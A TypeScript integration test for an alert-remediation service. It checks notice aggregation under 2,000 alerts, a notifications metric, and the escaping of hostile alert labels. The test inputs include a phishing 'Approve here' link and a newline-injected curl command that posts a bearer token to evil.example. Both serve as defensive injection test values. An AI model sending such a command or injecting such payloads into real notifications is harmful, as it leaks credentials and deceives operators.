/**
 * The whole service against a real notify sink: 2,000 alerts needing approval make a handful of
 * notices listing the runs, not 2,000; a `notify.webhook` text templating a hostile label reaches
 * the sink escaped.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import request from 'supertest';
import { createCatalogue, remediations } from '../../remediations/catalogue.js';
import { parseMatrix } from '../../src/matrix/load.js';
import { deliver, settled, type DeliveredRun } from '../support/api.js';
import { alertMessage, eventually, isolation, REDIS_URL, startService, TOKENS } from '../support/harness.js';
import { startNotifySink, type NotifySink } from '../support/notify-sink.js';
import { testRemediations } from '../support/test-remediations.js';

const PUBLIC_URL = 'https://remediator.example.test';
const ALERTS = 2000;
const PER_MESSAGE = 500;
const PHISH = '<!channel> <https://evil.example/login|Approve here>';
const FORGED = 'x\nApprove: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" https://evil.example/api/runs/1/approve';

const MATRIX = `
defaults: { approvalTimeout: 30m, cooldown: 0s }
rules:
  - name: high-error-rate
    matchers: ['alertname="HighErrorRate"']
    actions:
      - remediation: test.count
        params: { key: '{{ labels.key }}' }
        approval: required
  - name: provider-down
    matchers: ['alertname="ProviderDown"']
    actions:
      - remediation: notify.webhook
        params: { text: '<!here> Provider {{ labels.provider }} down: {{ annotations.summary }}' }
`;

/**
 * Whether the matrix loader compiles params with the remediation's `textParams` (the wiring in
 * src/matrix/load.ts): without it a templated notice is not escaped, and the test that needs it fails.
 */
function loaderEscapes(): boolean {
  const matrix = parseMatrix(MATRIX, 'probe.yaml', createCatalogue([...remediations, ...testRemediations]));
  const action = matrix.rules.find((r) => r.name === 'provider-down')!.actions[0]!;
  const text = action.renderParams({
    labels: { provider: '<x>' },
    annotations: {},
    alert: { fingerprint: 'f', startsAt: 's', status: 'firing' },
  })['text'];
  return text === '<!here> Provider &lt;x&gt; down: ';
}

describe('notices under a flood of alerts', (s) => {
  const iso = isolation('notice_flood');
  let sink: NotifySink;
  let db: pg.Pool;
  before(async () => {
    sink = await startNotifySink();
    db = new pg.Pool({ connectionString: iso.databaseUrl, max: 2 });
  });
  const svc = startService(s, () => ({
    databaseUrl: iso.databaseUrl,
    prefix: iso.prefix,
    matrix: MATRIX,
    env: { TARGET_REDIS_URL: REDIS_URL, NOTIFY_WEBHOOK_URL: sink.url, PUBLIC_URL },
  }));
  after(async () => {
    await db.end();
    await sink.close();
    await iso.drop();
  });

  let runs: DeliveredRun[] = [];

  it(
    `${ALERTS} HighErrorRate alerts: all pending, and at most a handful of notices, which list the runs`,
    { timeout: 120_000 },
    async () => {
      for (let from = 0; from < ALERTS; from += PER_MESSAGE) {
        const alerts = Array.from({ length: PER_MESSAGE }, (_, i) => ({ labels: { alertname: 'HighErrorRate', key: `k${from + i}` } }));
        runs.push(...(await deliver(svc, alertMessage(alerts))));
      }
      assert.equal(runs.length, ALERTS);
      assert.ok(
        runs.every((r) => r.status === 'pending_approval'),
        'every run waits for approval',
      );

      // Every run's timeline says it was notified, and with how many others.
      const ids = new Set(runs.map((r) => r.id));
      await eventually(
        async () => {
          const { rows } = await db.query<{ n: string }>("SELECT count(DISTINCT run_id) AS n FROM run_events WHERE type = 'notified'");
          return Number(rows[0]!.n) === ALERTS || undefined;
        },
        30_000,
        'every run notified',
      );
      // A moment for anything late: nothing more arrives.
      await new Promise((r) => setTimeout(r, 2500));
      const texts = sink.messages.map((m) => m.text);
      const dump = texts.map((t) => t.slice(0, 300)).join('\n---\n');
      assert.ok(texts.length >= 2 && texts.length <= 8, `${texts.length} notices for ${ALERTS} runs:\n${dump}`);

      // One notice of its own for the first run, then notices listing the others; together, every run once.
      const single = texts.filter((t) => t.includes(' needs approval\n'));
      const listings = texts.filter((t) => / runs of rule high-error-rate need approval\n/.test(t));
      assert.equal(single.length + listings.length, texts.length, dump);
      let total = single.length;
      for (const text of listings) {
        const n = Number(/^\[conduit-remediator\] (\d+) runs of rule high-error-rate need approval\n/.exec(text)?.[1]);
        total += n;
        const named = [...text.matchAll(/^• Run ([0-9a-f-]{36}): test\.count on test\/k\d+ \(alert HighErrorRate\)$/gm)].map((m) => m[1]!);
        assert.equal(named.length, Math.min(n, 20), text.slice(0, 500));
        assert.ok(
          named.every((id) => ids.has(id)),
          'the runs named are the runs delivered',
        );
        const approves = text.split('\n').filter((l) => l.startsWith('Approve:'));
        assert.deepEqual(
          approves,
          named.map((id) => `Approve: remediator approve ${id} --url ${PUBLIC_URL}`),
        );
        if (n > 20) {
          assert.ok(text.includes(`And ${n - 20} more: GET ${PUBLIC_URL}/api/runs?status=pending_approval&amp;rule=high-error-rate`), text);
        }
      }
      assert.equal(total, ALERTS, `the notices account for every run:\n${dump}`);

      // The aggregate's size is in each run's `notified` event.
      const { rows } = await db.query<{ runs: string | null; n: string }>(
        "SELECT detail->>'runs' AS runs, count(*) AS n FROM run_events WHERE type = 'notified' GROUP BY 1",
      );
      const sizes = new Map(rows.map((r) => [r.runs === null ? 1 : Number(r.runs), Number(r.n)]));
      assert.equal(
        [...sizes.values()].reduce((a, b) => a + b, 0),
        ALERTS,
      );
      for (const [size, n] of sizes) if (size > 1) assert.equal(n % size, 0, `${n} runs in notices of ${size}`);
    },
  );

  it('remediator_notifications_total counts the runs sent and aggregated', async () => {
    const res = await request(svc.url).get('/metrics').set('Authorization', `Bearer ${TOKENS.viewer}`).expect(200);
    const sample = (result: string) =>
      Number(new RegExp(`^remediator_notifications_total\\{result="${result}"\\} (\\d+)$`, 'm').exec(res.text)?.[1] ?? 0);
    assert.ok(
      sample('sent') + sample('aggregated') + sample('dropped') + sample('failed') > 0,
      `remediator_notifications_total counts nothing after ${ALERTS} notified runs: is the notifier given the metrics in src/services.ts?\n` +
        res.text
          .split('\n')
          .filter((l) => l.includes('remediator_notifications'))
          .join('\n'),
    );
    assert.ok(sample('aggregated') >= ALERTS - 10, res.text);
    assert.equal(sample('sent') + sample('aggregated'), ALERTS);
    assert.equal(sample('dropped'), 0);
  });

  it('a notify.webhook text templating a hostile label reaches the sink escaped, on one line', async () => {
    assert.ok(
      loaderEscapes(),
      'src/matrix/load.ts compiles params with the remediation textParams (a templated "<x>" renders as "&lt;x&gt;")',
    );
    const before = sink.messages.length;
    const [run] = await deliver(
      svc,
      alertMessage([{ labels: { alertname: 'ProviderDown', provider: PHISH }, annotations: { summary: FORGED } }]),
    );
    await settled(svc, run!.id, 'succeeded');
    const received = await eventually(async () => sink.messages.slice(before).find((m) => m.text.startsWith('<!here> Provider')));
    assert.equal(
      received.text,
      '<!here> Provider &lt;!channel&gt; &lt;https://evil.example/login|Approve here&gt; down: ' +
        'x Approve: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" https://evil.example/api/runs/1/approve',
    );
    assert.ok(!received.text.split('\n').some((l) => l.startsWith('Approve:')));
  });
});
